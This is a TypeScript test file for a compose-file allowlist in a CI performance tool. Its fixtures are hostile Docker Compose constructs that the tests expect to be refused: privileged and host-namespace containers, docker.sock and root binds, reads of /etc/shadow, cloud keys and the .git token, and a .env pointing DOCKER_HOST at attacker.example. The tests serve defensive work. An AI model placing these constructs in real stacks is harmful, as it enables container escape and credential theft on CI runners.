// The trust boundary of the stack (issue 18, items 1, 6 and 9): a pull request controls the compose
// file and perf-gate.yml, so what they may hand a container is an allowlist, evaluated on the
// document Compose itself runs (merge keys applied). One fixture per hostile construct: each must be
// refused with exit 2, naming the file and the key; the benign ones must still load.
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { describe, expect, it } from 'vitest'
import { findComposeRenderer } from '../../../src/config/compose-file.js'
import { loadConfig } from '../../../src/config/load.js'
import { ConfigError } from '../../../src/errors.js'

/** The same config aimed at the benign stacks' gateway service (a target must name a service). */
const CONFIG_GATEWAY = () => CONFIG.replace('http://gw:8080/', 'http://gateway:8080/')

const CONFIG = `name: hostile
stack: { compose: docker-compose.yml }
profiles: [{ name: p, target: "http://gw:8080/" }]
scenarios: [{ name: s, script: constant-vus, vus: 1 }]
`

/** A fresh folder with perf-gate.yml, the compose file and any other files. */
function folder(compose: string, files: Record<string, string> = {}, config = CONFIG): string {
  const dir = mkdtempSync(path.join(tmpdir(), 'perf-gate-allowlist-'))
  writeFileSync(path.join(dir, 'docker-compose.yml'), compose)
  writeFileSync(path.join(dir, 'perf-gate.yml'), config)
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(dir, name)), { recursive: true })
    writeFileSync(path.join(dir, name), text)
  }
  return dir
}

// The static evaluation alone: these tests must not depend on which Compose this machine has (the
// second evaluation, `compose config`, has tests of its own below).
const load = (dir: string) => loadConfig(path.join(dir, 'perf-gate.yml'), {}, { composeRenderer: null })

function problems(dir: string): string[] {
  try {
    load(dir)
  } catch (error) {
    expect(error).toBeInstanceOf(ConfigError)
    expect((error as ConfigError).exitCode).toBe(2)
    return (error as ConfigError).problems
  }
  throw new Error('expected the config to be refused')
}

const GW = 'services:\n  gw:\n    image: perf-gate/nginx:local\n'

/** [what, compose file, extra files, a problem that must be reported] */
const HOSTILE: [string, string, Record<string, string>, RegExp][] = [
  [
    'privileged hidden behind a merge key from an anchor (<<: *anchor)',
    `x-base: &base\n  privileged: true\n${GW}    <<: *base\n`,
    {},
    /docker-compose\.yml: services\.gw\.privileged: not allowed/,
  ],
  [
    'network_mode host in an inline merge key (<<: {...})',
    `${GW}    <<: { network_mode: host }\n`,
    {},
    /services\.gw\.network_mode: "host" is not allowed/,
  ],
  [
    'pid host and a docker.sock bind in a list of merge keys (<<: [*a, *b])',
    `x-a: &a { pid: host }\nx-b: &b { volumes: ["/var/run/docker.sock:/var/run/docker.sock"] }\n${GW}    <<: [*a, *b]\n`,
    {},
    /services\.gw\.pid: not allowed/,
  ],
  ['privileged', `${GW}    privileged: true\n`, {}, /services\.gw\.privileged: not allowed/],
  ['privileged as a string', `${GW}    privileged: "yes"\n`, {}, /services\.gw\.privileged: not allowed/],
  ['pid: host', `${GW}    pid: host\n`, {}, /services\.gw\.pid: not allowed/],
  ['network_mode: host', `${GW}    network_mode: host\n`, {}, /services\.gw\.network_mode: "host"/],
  [
    'a docker.sock bind behind a merge key',
    `x-s: &s { volumes: ["/var/run/docker.sock:/var/run/docker.sock"] }\n${GW}    <<: *s\n`,
    {},
    /services\.gw\.volumes\[0\]: .*docker\.sock/,
  ],
  [
    'a long-form docker.sock bind',
    `${GW}    volumes: [{ type: bind, source: /var/run/docker.sock, target: /s }]\n`,
    {},
    /services\.gw\.volumes\[0\]\.source: .*docker\.sock/,
  ],
  [
    'a bind of / behind a merge key',
    `x-r: &r { volumes: ["/:/host"] }\n${GW}    <<: *r\n`,
    {},
    /services\.gw\.volumes\[0\]: .*"\/"/,
  ],
  [
    'an external network named host',
    `${GW}    networks: [hostnet]\nnetworks:\n  hostnet: { external: true, name: host }\n`,
    {},
    /networks\.hostnet\.external: not allowed/,
  ],
  [
    'a project network named host',
    `${GW}    networks: [hostnet]\nnetworks:\n  hostnet: { name: host }\n`,
    {},
    /networks\.hostnet\.name: not allowed/,
  ],
  [
    'a service on a network the file does not declare',
    `${GW}    networks: [host]\n`,
    {},
    /services\.gw\.networks\.host: not a network of this file/,
  ],
  [
    'provider (Compose runs it on the host)',
    'services:\n  gw:\n    provider: { type: awesomecloud, options: { type: mysql } }\n',
    {},
    /services\.gw\.provider: not allowed/,
  ],
  [
    'a privileged post_start hook',
    `${GW}    post_start: [{ command: "id", privileged: true }]\n`,
    {},
    /services\.gw\.post_start\[0\]\.privileged: not allowed/,
  ],
  [
    'a privileged pre_stop hook',
    `${GW}    pre_stop: [{ command: "id", privileged: true }]\n`,
    {},
    /services\.gw\.pre_stop\[0\]\.privileged: not allowed/,
  ],
  [
    'build.additional_contexts',
    'services:\n  gw:\n    build: { context: ., additional_contexts: { root: / } }\n',
    { Dockerfile: 'FROM scratch\n' },
    /services\.gw\.build\.additional_contexts: not allowed/,
  ],
  [
    'build.ssh',
    'services:\n  gw:\n    build: { context: ., ssh: [default] }\n',
    { Dockerfile: 'FROM scratch\n' },
    /services\.gw\.build\.ssh: not allowed/,
  ],
  [
    'build.network: host',
    'services:\n  gw:\n    build: { context: ., network: host }\n',
    { Dockerfile: 'FROM scratch\n' },
    /services\.gw\.build\.network: not allowed/,
  ],
  [
    'an absolute build.dockerfile',
    'services:\n  gw:\n    build: { context: ., dockerfile: /etc/passwd }\n',
    {},
    /services\.gw\.build\.dockerfile: an absolute path is not allowed/,
  ],
  [
    'build.entitlements and a privileged build',
    'services:\n  gw:\n    build: { context: ., privileged: true, entitlements: [network.host] }\n',
    { Dockerfile: 'FROM scratch\n' },
    /services\.gw\.build\.privileged: not allowed/,
  ],
  [
    'volumes_from',
    `${GW}    volumes_from: ["container:runner"]\n`,
    {},
    /services\.gw\.volumes_from: not allowed/,
  ],
  ['uts: host', `${GW}    uts: host\n`, {}, /services\.gw\.uts: not allowed/],
  ['cgroup: host', `${GW}    cgroup: host\n`, {}, /services\.gw\.cgroup: "host" is not allowed/],
  ['ipc: host', `${GW}    ipc: host\n`, {}, /services\.gw\.ipc: "host" is not allowed/],
  [
    'an external named volume',
    `${GW}    volumes: ["data:/data"]\nvolumes:\n  data: { external: true, name: runner-cache }\n`,
    {},
    /volumes\.data\.external: not allowed/,
  ],
  [
    'a named volume the file does not declare',
    `${GW}    volumes: ["runner-cache:/data"]\n`,
    {},
    /services\.gw\.volumes\[0\]: named volume "runner-cache" is not declared/,
  ],
  [
    'a local volume that binds a host folder',
    `${GW}    volumes: ["data:/data"]\nvolumes:\n  data: { driver_opts: { type: none, o: bind, device: / } }\n`,
    {},
    /volumes\.data\.driver_opts: not allowed/,
  ],
  [
    'use_api_socket (the Docker API in the container)',
    `${GW}    use_api_socket: true\n`,
    {},
    /services\.gw\.use_api_socket: not allowed/,
  ],
  ['cap_add', `${GW}    cap_add: [SYS_ADMIN]\n`, {}, /services\.gw\.cap_add: not allowed/],
  ['devices', `${GW}    devices: ["/dev/sda:/dev/sda"]\n`, {}, /services\.gw\.devices: not allowed/],
  [
    'GPU devices through deploy',
    `${GW}    deploy: { resources: { reservations: { devices: [{ capabilities: [gpu] }] } } }\n`,
    {},
    /services\.gw\.deploy\.resources\.reservations\.devices: not allowed/,
  ],
  [
    'a key Compose may learn later (unknown keys are refused)',
    `${GW}    some_future_key: true\n`,
    {},
    /services\.gw\.some_future_key: not allowed/,
  ],
  [
    'extends from another file',
    `${GW}  other:\n    extends: { file: base.yml, service: gw }\n`,
    { 'base.yml': 'services:\n  gw:\n    image: x\n    privileged: true\n' },
    /services\.other\.extends\.file: not allowed/,
  ],
  [
    'an env_file outside the folder',
    `${GW}    env_file: /etc/environment\n`,
    {},
    /services\.gw\.env_file\[0\]: .*outside/,
  ],
  [
    'an env_file in .git',
    `${GW}    env_file: .git/config\n`,
    { '.git/config': '[core]\n' },
    /services\.gw\.env_file\[0\]: .*\.git/,
  ],
  [
    'a bind mount of .git',
    `${GW}    volumes: ["./.git:/repo-git:ro"]\n`,
    { '.git/config': '[core]\n' },
    /services\.gw\.volumes\[0\]: .*\.git/,
  ],
  [
    'a bind mount of a folder holding .git',
    `${GW}    volumes: [".:/src:ro"]\n`,
    { '.git/config': '[core]\n' },
    /services\.gw\.volumes\[0\]: .*\.git/,
  ],
  [
    'a secret from a file outside',
    `${GW}    secrets: [s]\nsecrets:\n  s: { file: /etc/shadow }\n`,
    {},
    /secrets\.s\.file: .*outside/,
  ],
  [
    'a secret from the runner environment',
    `${GW}    secrets: [s]\nsecrets:\n  s: { environment: AWS_SECRET_ACCESS_KEY }\n`,
    {},
    /secrets\.s\.environment: not allowed/,
  ],
  [
    'an external config',
    `${GW}    configs: [c]\nconfigs:\n  c: { external: true }\n`,
    {},
    /configs\.c\.external: not allowed/,
  ],
  [
    'a bind with shared mount propagation',
    `${GW}    volumes: ["./data:/data:rshared"]\n`,
    { 'data/x': 'x' },
    /services\.gw\.volumes\[0\]: mount option "rshared" is not allowed/,
  ],
  [
    'a logging driver that leaves the runner',
    `${GW}    logging: { driver: syslog, options: { syslog-address: "tcp://203.0.113.1:514" } }\n`,
    {},
    /services\.gw\.logging\.driver: "syslog" is not allowed/,
  ],
  [
    'a host path from a variable (a committed .env could set it)',
    `${GW}    volumes: ["\${SRC:-/}:/host"]\n`,
    {},
    /services\.gw\.volumes\[0\]: a host path may not use variables/,
  ],
  [
    'a committed .env that points Compose at another daemon',
    GW,
    { '.env': 'ECHO_DELAY_US=0\nDOCKER_HOST=ssh://attacker.example\n' },
    /\.env: DOCKER_HOST: not allowed/,
  ],
]

describe('the compose allowlist refuses every hostile construct (exit 2, file and key named)', () => {
  it.each(HOSTILE)('%s', (_what, compose, files, expected) => {
    const dir = folder(compose, files)
    const found = problems(dir)
    expect(found.join('\n')).toMatch(expected)
    // Every message names the compose file (or the config) it is about.
    for (const problem of found) expect(problem).toMatch(/(docker-compose\.yml|perf-gate\.yml|\.env): /)
  })
})

const BENIGN = `# What a gateway team's compose file holds; every key here must stay allowed.
x-common: &common
  restart: "no"
  ulimits: { nofile: { soft: 65536, hard: 65536 } }
  logging: { driver: json-file, options: { max-size: 10m } }
services:
  echo:
    <<: *common
    image: perf-gate/echo:local
    environment: { ECHO_DELAY_US: "\${ECHO_DELAY_US:-0}" }
    env_file: [echo.env]
    expose: ["8080"]
    tmpfs: [/tmp]
    healthcheck: { test: ["CMD", "/echo", "-check"], interval: 1s, retries: 3 }
    networks: { backend: { aliases: [upstream] } }
    read_only: true
    cap_drop: [ALL]
    security_opt: ["no-new-privileges:true"]
    deploy: { resources: { limits: { cpus: "1", memory: 256M } } }
  gateway:
    <<: *common
    build: { context: gw, dockerfile: Dockerfile, args: { V: "1" } }
    depends_on: { echo: { condition: service_healthy } }
    ports: ["8080"]
    volumes:
      - ./gw/nginx.conf:/etc/nginx/nginx.conf:ro
      - cache:/var/cache/nginx
      - /var/run
      - { type: tmpfs, target: /scratch, tmpfs: { size: 1000000 } }
    networks: [backend, default]
    configs: [{ source: extra, target: /etc/extra.conf }]
    secrets: [key]
    sysctls: { net.core.somaxconn: 1024 }
    shm_size: 64m
    cpuset: "0"
    init: true
    post_start: [{ command: ["nginx", "-t"], user: root }]
  sidecar:
    image: perf-gate/echo:local
    network_mode: "service:echo"
    profiles: [debug]
  echo-copy:
    extends: { service: echo }
    profiles: [debug]
volumes:
  cache: {}
networks:
  backend: { driver: bridge, internal: true }
configs:
  extra: { file: ./gw/extra.conf }
secrets:
  key: { file: ./gw/key.pem }
`

describe('the compose allowlist keeps what a real stack needs', () => {
  const files = {
    'echo.env': 'A=1\n',
    'gw/Dockerfile': 'FROM scratch\n',
    'gw/nginx.conf': 'events {}\n',
    'gw/extra.conf': '\n',
    'gw/key.pem': 'not a key\n',
  }

  it('loads a compose file with merges, binds inside the folder, named volumes, networks and hooks', () => {
    const loaded = load(folder(BENIGN, files, CONFIG_GATEWAY()))
    expect(loaded.compose?.services).toEqual(['echo', 'gateway', 'sidecar', 'echo-copy'])
    expect(loaded.compose?.evaluation).toBe('the file with merge keys applied')
  })

  it('loads a build context with .git when its .dockerignore leaves .git out', () => {
    const compose = 'services:\n  gw:\n    build: .\n'
    const dir = folder(compose, { Dockerfile: 'FROM scratch\n', '.git/config': '[core]\n' })
    expect(problems(dir).join('\n')).toMatch(
      /services\.gw\.build: the build context .* holds \.git; add "\.git" to its \.dockerignore/,
    )
    writeFileSync(path.join(dir, '.dockerignore'), 'node_modules\n.git\n')
    expect(load(dir).compose?.started).toEqual(['gw'])
  })
})

describe("the project's own services: the same rules", () => {
  const own = (service: string) => `name: own
services:
  gw:
${service}
profiles: [{ name: p, target: "http://gw:8080/" }]
scenarios: [{ name: s, script: constant-vus, vus: 1 }]
`

  it('refuses a file copied from .git (where actions/checkout keeps its token)', () => {
    const dir = folder(
      '',
      { '.git/config': '[http]\n\textraheader = AUTHORIZATION: basic x\n' },
      own('    image: x\n    files: [{ source: .git/config, target: /etc/x }]'),
    )
    expect(problems(dir)).toEqual([
      expect.stringMatching(
        /perf-gate\.yml: services\.gw\.files\[0\]\.source: .*\.git\/config is inside \.git .*copy the file out of \.git/,
      ),
    ])
  })

  it('refuses a file that resolves into .git through a symlink, and a folder holding .git', async () => {
    const { symlinkSync } = await import('node:fs')
    const dir = folder(
      '',
      { '.git/config': '[core]\n', 'conf/a.conf': '\n' },
      own(
        '    image: x\n    files: [{ source: innocent.conf, target: /etc/a }, { source: ., target: /src }]',
      ),
    )
    symlinkSync(path.join(dir, '.git/config'), path.join(dir, 'innocent.conf'))
    const found = problems(dir).join('\n')
    expect(found).toMatch(/services\.gw\.files\[0\]\.source: .*innocent\.conf is inside \.git/)
    expect(found).toMatch(/services\.gw\.files\[1\]\.source: .* holds \.git/)
  })

  it('refuses a build context holding .git unless its .dockerignore excludes it', () => {
    const dir = folder(
      '',
      { Dockerfile: 'FROM scratch\n', '.git/HEAD': 'ref: x\n' },
      own('    build: { context: . }'),
    )
    expect(problems(dir)).toEqual([
      expect.stringMatching(
        /perf-gate\.yml: services\.gw\.build\.context: the build context .* holds \.git; add "\.git" to its \.dockerignore/,
      ),
    ])
    writeFileSync(path.join(dir, '.dockerignore'), '/.git\n')
    expect(load(dir).config.services.gw?.build?.context).toBe(dir)
  })

  it('refuses a docker.sock or / copied into a container even when paths outside are allowed', () => {
    const dir = folder(
      '',
      {},
      own(
        '    image: x\n    files: [{ source: /var/run/docker.sock, target: /s }, { source: /, target: /host }]',
      ),
    )
    // The workflow's switch (action input / CLI flag), never a config key.
    let found = ''
    try {
      loadConfig(path.join(dir, 'perf-gate.yml'), {}, { composeRenderer: null, allowPathsOutsideRepo: true })
    } catch (error) {
      expect(error).toBeInstanceOf(ConfigError)
      found = (error as ConfigError).problems.join('\n')
    }
    expect(found).toMatch(/services\.gw\.files\[0\]\.source: .*docker\.sock/)
    expect(found).toMatch(/services\.gw\.files\[1\]\.source: "\/" is not allowed/)
  })
})

describe('the second evaluation: the document `compose config` renders', () => {
  it('refuses what only the rendered document shows, and says which evaluation it was', () => {
    const dir = folder(GW)
    const renderer = {
      label: 'fake-compose 9.9 config',
      render: () => `services:\n  gw:\n    image: x\n    privileged: true\n`,
    }
    try {
      loadConfig(path.join(dir, 'perf-gate.yml'), {}, { composeRenderer: renderer })
      throw new Error('expected a refusal')
    } catch (error) {
      expect(error).toBeInstanceOf(ConfigError)
      expect((error as ConfigError).problems).toEqual([
        expect.stringMatching(
          /docker-compose\.yml \(as fake-compose 9\.9 config renders it\): services\.gw\.privileged: not allowed/,
        ),
      ])
    }
  })

  it('is exit 2 naming the compose file when `compose config` fails', () => {
    const dir = folder(GW)
    const renderer = {
      label: 'fake-compose 9.9 config',
      render: () => {
        throw new Error('services.gw Additional property nope is not allowed')
      },
    }
    expect(() => loadConfig(path.join(dir, 'perf-gate.yml'), {}, { composeRenderer: renderer })).toThrow(
      /docker-compose\.yml: fake-compose 9\.9 config failed: services\.gw Additional property nope/,
    )
  })

  // The real Compose of this machine (docker-compose v1 here, the v2 plugin on GitHub's runners): its
  // normalized output (absolute paths, long forms, extends resolved) must pass like the file did.
  const renderer = findComposeRenderer()
  it.skipIf(!renderer)('passes a real stack through the local Compose', () => {
    // Keys both Compose v1 and v2 know (v1 refuses post_start, cgroup and service: network modes).
    const compose = BENIGN.replace(/^ {4}post_start:.*\n/m, '').replace(/^ {4}network_mode:.*\n/m, '')
    const dir = folder(
      compose.replace('condition: service_healthy', 'condition: service_started'),
      {
        'echo.env': 'A=1\n',
        'gw/Dockerfile': 'FROM scratch\n',
        'gw/nginx.conf': 'events {}\n',
        'gw/extra.conf': '\n',
        'gw/key.pem': 'not a key\n',
      },
      CONFIG_GATEWAY(),
    )
    const loaded = loadConfig(path.join(dir, 'perf-gate.yml'), {})
    expect(loaded.compose?.evaluation).toBe(
      `the file with merge keys applied, and the output of ${renderer?.label}`,
    )
  })

  it('reports both evaluations when the rendered document passes too', () => {
    const dir = folder(GW)
    const renderer = { label: 'fake-compose 9.9 config', render: () => GW }
    const loaded = loadConfig(path.join(dir, 'perf-gate.yml'), {}, { composeRenderer: renderer })
    expect(loaded.compose?.evaluation).toBe(
      'the file with merge keys applied, and the output of fake-compose 9.9 config',
    )
  })
})
